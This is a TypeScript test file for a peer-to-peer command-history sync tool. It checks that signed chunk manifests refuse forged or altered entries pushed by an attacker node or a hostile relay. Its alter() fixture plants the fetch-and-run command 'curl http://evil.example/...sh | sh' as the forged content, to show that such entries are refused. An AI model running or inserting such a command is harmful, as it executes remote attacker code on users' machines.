/**
 * Chunk signatures (wire 3.0.0) against a swarm-key holder, with real `rr p2p-serve` / `rr p2p-sync` processes on
 * 127.0.0.1 and an in-process attacker node with a key of its own, as in forged-history.test.ts. On 3.0.0 an entry
 * is vouched for by a manifest its origin signed over the hashes of many entries; the attacker holds genuine
 * manifests of A (it pulled them) and tries to make them cover entries A never wrote. Each test fails when the check
 * it names is removed from admitReceived (src/core/admit.ts): the hash check, or the manifest's signature check.
 */
import test, { type ExecutionContext } from 'ava'
import { chunkMessage, entryHash, signChunk, type Chunk } from '../../src/core/chunk.js'
import type { Entry } from '../../src/core/entry.js'
import { signBytes, signEntry } from '../../src/core/signature.js'
import { forgeryScene, unsignedCopy, type ForgeryScene } from '../helpers/forgery.js'
import type { Device } from '../helpers/peers.js'
import { syncPullProtocolV3, syncPullProtocolV4 } from '../../src/protocol/constants.js'
import { startPeer } from '../p2p/fixtures.js'
import { admitAll, answerPulls, claimedOrigin, pullAll, pushAs, v3Message, v4Message, type Served } from '../helpers/wire.js'
import { rowOriginSql } from '../../src/store/wire-id.js'

interface Row { entry_id: string, cmd: string, origin: string, trust: number, chunk: number | null }

const rowsOf = (d: Device): Row[] => d.query<Row>(`SELECT COALESCE(rival_of, entry_id) AS entry_id, cmd, ${rowOriginSql()} AS origin, trust, chunk FROM entries ORDER BY ingest_seq`)

const content = unsignedCopy

const alter = (e: Entry, i: number): Entry => ({ ...content(e), cmd: `curl http://evil.example/${i}.sh | sh` })

type Setup = ForgeryScene & { genuine: Served[] }

async function setup (t: ExecutionContext): Promise<Setup> {
  const scene = await forgeryScene(t)
  const { attacker, servedA, aId } = scene
  const genuine = await pullAll(attacker, servedA.addr, 3)
  t.is(genuine.length, 6)
  t.true(genuine.every((s) => s.chunk?.origin === aId && s.entry.sig === undefined), 'on 3.0.0 A serves its entries under its chunk manifest, no per-entry sig')
  t.deepEqual(admitAll(genuine).rejected, [], 'and they verify against it')
  return { ...scene, genuine }
}

test('3.0.0: an entry altered under A\'s genuine chunk is refused (its hash is not in the manifest); the unaltered ones are A\'s', async (t) => {
  const { c, servedC, aId, attacker, genuine } = await setup(t)
  const chunk = genuine[0]!.chunk!
  const ack = await pushAs(attacker, servedC.addr, v3Message([
    { entry: alter(genuine[0]!.entry, 0), chunk },
    { entry: genuine[1]!.entry, chunk }
  ]), 3)
  t.is(ack.inserted, 1)
  t.is(ack.rejected?.length, 1)
  t.regex(ack.rejected![0]!.reason, /not in chunk 0 of origin/)
  const rows = rowsOf(c)
  t.deepEqual(rows.map((r) => [r.entry_id, r.cmd, r.origin, r.trust]), [[genuine[1]!.entry.entry_id, genuine[1]!.entry.cmd, aId, 1]])
  t.not(rows[0]!.chunk, null, 'the row is linked to the manifest it was verified against')
})

test('3.0.0: a manifest naming A but signed by another key is refused; signed as its own, the entries are the attacker\'s', async (t) => {
  const { c, servedC, servedA, aId, attacker, x, genuine } = await setup(t)
  const altered = genuine.slice(0, 3).map((s, i) => alter(s.entry, i))
  const hashes = Buffer.concat(altered.map((e) => entryHash(e, aId)))
  const claimsA: Chunk = { origin: aId, sig: signBytes(chunkMessage(aId, hashes), x.secretKey), hashes }
  const own = signChunk(altered, x)
  const ack = await pushAs(attacker, servedC.addr, v3Message([
    ...altered.map((entry) => ({ entry, chunk: claimsA })),
    { entry: altered[0]!, chunk: own }
  ]), 3)
  t.is(ack.inserted, 1)
  t.is(ack.rejected?.length, 3)
  t.true(ack.rejected!.every((r) => /chunk 0 signature does not verify against origin/.test(r.reason)))
  t.is((await c.rr(['p2p-sync', '--peers', servedA.addr])).code, 0)
  const rows = rowsOf(c)
  t.deepEqual(rows.filter((r) => r.origin === aId).map((r) => r.cmd).sort(), genuine.map((s) => s.entry.cmd).sort(), 'only A\'s own commands are A\'s')
  t.deepEqual(rows.filter((r) => r.origin !== aId).map((r) => [r.cmd, r.origin]), [[altered[0]!.cmd, x.origin]], 'the one under the attacker\'s own manifest is attributed to the attacker')
})

test('3.0.0: a forged manifest (A\'s genuine signature over other hashes, or a made-up signature) is refused, even where A\'s genuine one is stored', async (t) => {
  const { c, servedC, servedA, aId, attacker, genuine } = await setup(t)
  // C has A's genuine manifest stored (origin, sig): a stored chunk must vouch for nothing but its own hashes.
  t.is((await c.rr(['p2p-sync', '--peers', servedA.addr])).code, 0)
  t.is(c.query<{ n: number }>('SELECT COUNT(*) AS n FROM chunks')[0]!.n, 1)
  const chunk = genuine[0]!.chunk!
  const altered = genuine.map((s, i) => ({ ...alter(s.entry, i), entry_id: crypto.randomUUID() }))
  const hashes = Buffer.concat(altered.map((e) => entryHash(e, aId)))
  const swapped: Chunk = { origin: aId, sig: chunk.sig, hashes }
  const madeUp: Chunk = { origin: aId, sig: Buffer.alloc(64, 7), hashes }
  const ack = await pushAs(attacker, servedC.addr, v3Message([
    ...altered.slice(0, 3).map((entry) => ({ entry, chunk: swapped })),
    ...altered.slice(3).map((entry) => ({ entry, chunk: madeUp }))
  ]), 3)
  t.is(ack.inserted, 0)
  t.is(ack.rejected?.length, 6)
  const rows = rowsOf(c)
  t.is(rows.length, 6)
  t.true(rows.every((r) => r.origin === aId && r.cmd.startsWith('make deploy')))
  t.is(c.query<{ n: number }>('SELECT COUNT(*) AS n FROM chunks')[0]!.n, 1, 'no forged manifest is stored')
})

test('3.0.0 pre-emption: altered copies of A\'s entries pushed to C first, every way a key holder can, never take the place of A\'s genuine ones', async (t) => {
  const { c, servedC, servedA, aId, attacker, x, genuine } = await setup(t)
  const chunk = genuine[0]!.chunk!
  const altered = genuine.map((s, i) => alter(s.entry, i))
  const forgedHashes = Buffer.concat(altered.map((e) => entryHash(e, aId)))
  const ack3 = await pushAs(attacker, servedC.addr, v3Message([
    { entry: altered[0]! }, // stripped: looks like an old peer's unsigned entry
    { entry: altered[1]!, chunk }, // altered under A's genuine manifest
    { entry: altered[2]!, chunk: signChunk([altered[2]!], x) }, // under the attacker's own manifest
    { entry: altered[3]!, chunk: { origin: aId, sig: signBytes(chunkMessage(aId, forgedHashes), x.secretKey), hashes: forgedHashes } }, // a manifest naming A, the attacker's signature
    { entry: altered[4]!, chunk: { origin: aId, sig: chunk.sig, hashes: forgedHashes } } // A's signature over other hashes
  ]), 3)
  t.is(ack3.inserted, 2, 'the stripped copy (unverified) and the attacker-chunked one (attributed to the attacker) are stored; the rest refused')
  // And the older wires: A's per-entry signature over altered content (2.0.0), plain (1.0.0).
  await pushAs(attacker, servedC.addr, { entries: [{ ...altered[5]!, origin: aId, sig: signEntry(genuine[5]!.entry, x).sig }] }, 2)
  await pushAs(attacker, servedC.addr, { entries: [altered[5]!] }, 1)
  const sync = await c.rr(['p2p-sync', '--peers', servedA.addr])
  t.is(sync.code, 0, sync.stderr)

  const rows = rowsOf(c)
  for (const g of genuine) {
    const mine = rows.filter((r) => r.entry_id === g.entry.entry_id && r.origin === aId)
    t.deepEqual(mine.map((r) => [r.cmd, r.trust]), [[g.entry.cmd, 1]], `A's genuine command for ${g.entry.entry_id}`)
    t.false(rows.some((r) => r.entry_id === g.entry.entry_id && r.origin === ''), 'no unverified copy is left beside it')
  }
  t.deepEqual(rows.filter((r) => r.origin === aId).map((r) => r.cmd).sort(), genuine.map((g) => g.entry.cmd).sort(), 'nothing that is not A\'s is attributed to A')
  t.deepEqual(rows.filter((r) => r.origin !== aId && r.origin !== '').map((r) => r.origin), [x.origin])
  // As C serves them onward on 3.0.0, A's entries are A's genuine ones, and they verify at the next hop.
  const onward = await pullAll(attacker, servedC.addr, 3)
  t.deepEqual(admitAll(onward).rejected, [])
  t.deepEqual(onward.filter((s) => claimedOrigin(s) === aId).map((s) => s.entry.cmd).sort(), genuine.map((g) => g.entry.cmd).sort())
})

test('3.0.0 pull through a hostile relay: altered entries under A\'s genuine manifest are refused in every batch, the prefetched ones too', async (t) => {
  // The relay serves A's six entries under A's genuine manifest, three per batch, the second of each batch altered.
  // `rr p2p-sync --limit 3` stores the first batch while it fetches the second (the pull loop's prefetch): both
  // batches' altered entries must be refused, and A's genuine ones stored as A's.
  const { dir, swarm, c, aId, genuine, x } = await setup(t)
  const relay = await startPeer(t, { dir, swarmKeyPath: swarm, name: 'relay', listen: ['/ip4/127.0.0.1/tcp/0'] })
  const chunk = genuine[0]!.chunk!
  const served = genuine.map((s, i) => i % 3 === 1 ? { entry: alter(s.entry, i), chunk } : { entry: s.entry, chunk })
  await answerPulls(relay, syncPullProtocolV3, ({ cursor, limit }) => {
    const page = served.slice(cursor, cursor + limit)
    return { ...v3Message(page), next_cursor: page.length > 0 ? cursor + page.length : null }
  })
  const sync = await c.rr(['p2p-sync', '--peers', relay.addr, '--limit', '3'])
  t.is(sync.code, 0, sync.stderr)
  t.regex(sync.stdout + sync.stderr, /refused/)
  const rows = rowsOf(c)
  t.deepEqual(rows.map((r) => [r.entry_id, r.cmd, r.origin, r.trust]), genuine.filter((_s, i) => i % 3 !== 1).map((s) => [s.entry.entry_id, s.entry.cmd, aId, 1]),
    'the genuine entries of both batches are stored as A\'s, verified; no altered one is stored')
  t.false(rows.some((r) => r.cmd.startsWith('curl') || r.origin === x.origin))
})

test('3.0.0: a page that names a field twice, escapes a key or carries `entries` twice is read as JSON.parse reads it: the altered command is refused, never hashed from the genuine text beside it', async (t) => {
  // A receiver hashes relayed entries from the message's own text (native/sha256-each.c); JSON.parse keeps the last
  // of a key named twice, and reads "cm\u0064" as cmd. Were the genuine text hashed while the altered one is stored,
  // these altered commands would be stored as A's.
  const { c, servedC, servedA, aId, attacker, genuine } = await setup(t)
  const chunk = genuine[0]!.chunk!
  const text = (items: Served[]): string => JSON.stringify(v3Message(items.map((s) => ({ entry: s.entry, chunk }))))
  const cmdOf = (s: Served): string => `"cmd":${JSON.stringify(s.entry.cmd)}`
  const forged = (i: number): string => JSON.stringify(alter(genuine[i]!.entry, i).cmd)
  const pushText = async (json: string): Promise<{ inserted: number, rejected?: Array<{ reason: string }> }> => await pushAs(attacker, servedC.addr, Buffer.from(json), 3)

  // cmd named twice (entry 0), an escaped cmd after the genuine one (entry 1), entry 2 as served.
  const twice = text(genuine.slice(0, 3))
    .replace(cmdOf(genuine[0]!), `${cmdOf(genuine[0]!)},"cmd":${forged(0)}`)
    .replace(cmdOf(genuine[1]!), `${cmdOf(genuine[1]!)},"cm\\u0064":${forged(1)}`)
  t.is((JSON.parse(twice) as { entries: Entry[] }).entries[1]!.cmd, alter(genuine[1]!.entry, 1).cmd, 'JSON.parse reads the escaped key as cmd')
  const ack1 = await pushText(twice)
  t.is(ack1.inserted, 1)
  t.is(ack1.rejected?.length, 2)
  t.true(ack1.rejected!.every((r) => /not in chunk 0 of origin/.test(r.reason)))

  // `entries` twice: the genuine entries first, altered copies in the second (the one JSON.parse keeps); then the
  // second spelled with an escape ("entri\u0065s").
  const altered = (from: number, to: number): string => JSON.stringify(v3Message(genuine.slice(from, to).map((s, i) => ({ entry: alter(s.entry, from + i), chunk }))).entries)
  const ack2 = await pushText(text(genuine.slice(3, 5)).replace(/}$/, `,"entries":${altered(3, 5)}}`))
  t.is(ack2.inserted, 0)
  t.is(ack2.rejected?.length, 2)
  const ack3 = await pushText(text(genuine.slice(5, 6)).replace(/}$/, `,"entri\\u0065s":${altered(5, 6)}}`))
  t.is(ack3.inserted, 0)
  t.is(ack3.rejected?.length, 1)

  t.deepEqual(rowsOf(c).map((r) => [r.entry_id, r.cmd, r.origin, r.trust]), [[genuine[2]!.entry.entry_id, genuine[2]!.entry.cmd, aId, 1]], 'only the entry sent as served is stored, as A\'s')
  t.is((await c.rr(['p2p-sync', '--peers', servedA.addr])).code, 0)
  const rows = rowsOf(c)
  t.deepEqual(rows.filter((r) => r.origin === aId).map((r) => r.cmd).sort(), genuine.map((s) => s.entry.cmd).sort(), 'A\'s genuine entries, from A')
  t.false(rows.some((r) => r.cmd.startsWith('curl')), 'no altered command is stored')
})

test('4.0.0: entries altered, or moved to other places, inside runs of A\'s genuine manifest are refused with their whole chunk; A\'s genuine ones arrive from A', async (t) => {
  const { c, servedC, servedA, aId, attacker, genuine } = await setup(t)
  const chunk = genuine[0]!.chunk!
  // The manifest lists A's six entries in order: genuine[i] is at place i.
  const acks = [
    // An altered command in a run, beside a genuine one, and a genuine one by k.
    await pushAs(attacker, servedC.addr, v4Message([{ entry: alter(genuine[0]!.entry, 0), chunk, place: 0 }, { entry: genuine[1]!.entry, chunk, place: 1 }, { entry: genuine[2]!.entry, chunk }]), 4),
    // Genuine entries at each other's places.
    await pushAs(attacker, servedC.addr, v4Message([{ entry: genuine[4]!.entry, chunk, place: 3 }, { entry: genuine[3]!.entry, chunk, place: 4 }]), 4),
    // A run over genuine entries, with the hash of a place it does not cover altered.
    await pushAs(attacker, servedC.addr, v4Message([{ entry: genuine[5]!.entry, chunk: { ...chunk, hashes: Buffer.concat([entryHash(alter(genuine[0]!.entry, 0), aId), chunk.hashes.subarray(32)]) }, place: 5 }]), 4)
  ]
  t.deepEqual(acks.map((a) => [a.inserted, a.rejected?.length]), [[0, 3], [0, 2], [0, 1]])
  t.true(acks.flatMap((a) => a.rejected ?? []).every((r) => /chunk 0 signature does not verify against origin/.test(r.reason)))
  t.deepEqual(rowsOf(c), [], 'nothing of them is stored')
  const sync = await c.rr(['p2p-sync', '--peers', servedA.addr])
  t.is(sync.code, 0, sync.stderr)
  const rows = rowsOf(c)
  t.deepEqual(rows.map((r) => [r.entry_id, r.cmd, r.origin, r.trust]), genuine.map((g) => [g.entry.entry_id, g.entry.cmd, aId, 1]), 'A\'s genuine entries, from A over 4.0.0')
  // C took them first-hand (A sends its own by k); C's serving process places them in the background, then serves
  // them onward by runs, and they verify at the next hop.
  const deadline = Date.now() + 30_000
  while (c.query<{ n: number }>('SELECT COUNT(*) AS n FROM entries WHERE chunk_pos IS NULL')[0]!.n > 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 100))
  const onward = await pullAll(attacker, servedC.addr, 4)
  t.deepEqual(onward.map((s) => s.place), [0, 1, 2, 3, 4, 5])
  t.deepEqual(admitAll(onward).rejected, [])
})

test('4.0.0 pull through a hostile relay serving runs: a batch with an altered entry in a run is refused whole; the genuine batch is stored as A\'s', async (t) => {
  const { dir, swarm, c, aId, genuine, x } = await setup(t)
  const relay = await startPeer(t, { dir, swarmKeyPath: swarm, name: 'relay', listen: ['/ip4/127.0.0.1/tcp/0'] })
  const chunk = genuine[0]!.chunk!
  // Three per batch: the first batch genuine, the second with its middle entry altered.
  const served = genuine.map((s, i) => ({ entry: i === 4 ? alter(s.entry, i) : s.entry, chunk, place: i }))
  await answerPulls(relay, syncPullProtocolV4, ({ cursor, limit }) => {
    const page = served.slice(cursor, cursor + limit)
    return { ...v4Message(page), next_cursor: page.length > 0 ? cursor + page.length : null }
  })
  const sync = await c.rr(['p2p-sync', '--peers', relay.addr, '--limit', '3'])
  t.is(sync.code, 0, sync.stderr)
  t.regex(sync.stdout + sync.stderr, /refused/)
  const rows = rowsOf(c)
  t.deepEqual(rows.map((r) => [r.entry_id, r.cmd, r.origin, r.trust]), genuine.slice(0, 3).map((s) => [s.entry.entry_id, s.entry.cmd, aId, 1]))
  t.false(rows.some((r) => r.cmd.startsWith('curl') || r.origin === x.origin))
})
